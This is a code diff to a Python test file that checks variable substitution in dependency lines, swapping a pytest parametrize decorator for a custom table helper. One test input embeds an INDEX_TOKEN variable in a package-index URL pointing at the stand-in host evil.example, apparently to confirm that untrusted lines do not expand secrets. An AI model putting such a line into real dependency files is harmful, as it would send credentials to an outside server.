@@ -4,6 +4,7 @@ import pytest
 
 from keynet.errors import ContextInvalid
 from keynet.recipe.dependencies.lines.variables import Variables
+from tests.tables import table
 
 ENVIRONMENT = {
     "HOST": "example.com",
@@ -32,7 +33,7 @@ def test_variables_are_replaced(line: str, expected: str) -> None:
     assert VARIABLES.replaced(line, "f:1", trusted=False) == expected
 
 
-@pytest.mark.parametrize(
+@table(
     "line",
     [
         "-i https://${INDEX_TOKEN}@evil.example/simple",
